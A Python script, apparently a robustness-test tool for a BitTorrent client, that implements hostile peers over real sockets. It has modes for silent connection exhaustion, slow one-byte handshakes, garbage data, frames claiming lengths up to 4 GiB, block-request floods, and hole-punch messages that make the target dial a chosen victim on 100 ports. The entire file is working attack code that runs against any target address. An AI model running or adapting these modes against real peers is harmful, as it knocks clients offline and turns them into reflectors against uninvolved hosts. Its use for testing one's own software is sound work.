#!/usr/bin/python3
"""Peers that mean harm, over real sockets.

    hostile_peer.py MODE --target IP:PORT --bind IP [--torrent FILE] [--count N] [--seconds S] [--victim IP]

Modes: silent        opens N connections and says nothing
       trickle       opens N connections and sends the handshake one byte a second
       garbage       N connections of random bytes, one after the other
       garbage-after N connections with a good handshake, then random bytes
       giant         N connections with a good handshake, then frames that claim up to 4 GiB
       punch         N connections that say with 100 hole punching messages each: dial the victim, at these ports
       flood         N connections that ask for the same block as fast as they can and never read
Prints JSON lines: "ready" (open connections), "round", "done" (connections made, closed by the other side, bytes sent).
"""
import argparse
import asyncio
import random
import struct
import sys

from wire import INTERESTED, REQUEST, Torrent, endpoint, handshake, message, say

CLAIMS = (0xffffffff, 0x80000000, 0x7fffffff, 1 << 30, 100 << 20, 1 << 24)


class Attack:
    def __init__(self, args):
        self.args = args
        self.random = random.Random(args.seed)
        self.swarm = Torrent(args.torrent).swarm if args.torrent else bytes(20)
        self.made = self.closed = self.sent = self.open = 0

    def greeting(self):
        return handshake(self.swarm, b'-XX0001-' + bytes(self.random.randrange(256) for _ in range(12)))

    async def connect(self):
        reader, writer = await asyncio.wait_for(asyncio.open_connection(*endpoint(self.args.target), local_addr=(self.args.bind, 0)), 10)
        self.made += 1
        return reader, writer

    async def hold(self, sending):
        """One connection: sends what the coroutine gives, then waits until it is closed or time is up."""
        try:
            reader, writer = await self.connect()
        except (OSError, asyncio.TimeoutError):
            return
        self.open += 1
        try:
            async for data in sending:
                writer.write(data)
                self.sent += len(data)
                await asyncio.wait_for(writer.drain(), self.args.seconds)
            while await reader.read(65536):
                pass
            self.closed += 1
        except (OSError, asyncio.TimeoutError):
            self.closed += 1
        finally:
            self.open -= 1
            writer.close()

    async def nothing(self):
        return
        yield b''

    async def trickle(self):
        for byte in self.greeting():
            yield bytes([byte])
            await asyncio.sleep(1)

    async def garbage(self):
        yield self.random.randbytes(self.random.randrange(1, 100_000))

    async def garbage_after(self):
        yield self.greeting()
        yield self.random.randbytes(self.random.randrange(1, 100_000))

    async def giant(self):
        yield self.greeting()
        yield struct.pack('>IB', CLAIMS[self.random.randrange(len(CLAIMS))], self.random.choice((5, 7, 20, 22, 99)))
        for _ in range(200):
            yield bytes(65536)

    async def punch(self):
        greeting = bytearray(self.greeting())
        greeting[25] |= 0x10  # extension protocol
        yield bytes(greeting) + message(20, b'\x00d1:md12:ut_holepunchi1eee')
        await asyncio.sleep(0.2)
        victim = bytes(int(part) for part in self.args.victim.split('.'))
        yield b''.join(message(20, b'\x04\x01\x00' + victim + struct.pack('>HI', 2000 + port, 0)) for port in range(100))

    async def flood(self):
        yield self.greeting() + message(INTERESTED)
        burst = message(REQUEST, struct.pack('>III', 0, 0, 16384)) * 4000
        while True:
            yield burst

    async def crowd(self, source):
        """Many connections at the same time."""
        tasks = [asyncio.create_task(self.hold(source())) for _ in range(self.args.count)]
        end = asyncio.get_running_loop().time() + self.args.seconds
        ready = False
        while asyncio.get_running_loop().time() < end and not all(task.done() for task in tasks):
            await asyncio.sleep(0.1)
            if not ready and self.made >= self.args.count:
                ready = True
                say('ready', open=self.open)
        if not ready:
            say('ready', open=self.open)
        for task in tasks:
            task.cancel()

    async def parade(self, source):
        """A few connections at a time, until the count or the time is used up."""
        say('ready', open=0)
        end = asyncio.get_running_loop().time() + self.args.seconds
        while self.made < self.args.count and asyncio.get_running_loop().time() < end:
            before = self.made
            tasks = [asyncio.create_task(self.hold(source())) for _ in range(8)]
            _, late = await asyncio.wait(tasks, timeout=3)
            for task in late:
                task.cancel()
            if self.made == before:
                await asyncio.sleep(0.2)

    async def run(self):
        mode = self.args.mode
        source = {'silent': self.nothing, 'trickle': self.trickle, 'garbage': self.garbage, 'garbage-after': self.garbage_after,
                  'giant': self.giant, 'flood': self.flood, 'punch': self.punch}[mode]
        await (self.crowd if mode in ('silent', 'trickle', 'flood') else self.parade)(source)
        say('done', made=self.made, closed=self.closed, sent=self.sent)
        return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('mode', choices=('silent', 'trickle', 'garbage', 'garbage-after', 'giant', 'flood', 'punch'))
    parser.add_argument('--target', required=True)
    parser.add_argument('--bind', required=True)
    parser.add_argument('--torrent')
    parser.add_argument('--victim', help='for punch')
    parser.add_argument('--count', type=int, default=100)
    parser.add_argument('--seconds', type=float, default=30)
    parser.add_argument('--seed', type=int, default=1)
    return asyncio.run(Attack(parser.parse_args()).run())


if __name__ == '__main__':
    sys.exit(main())
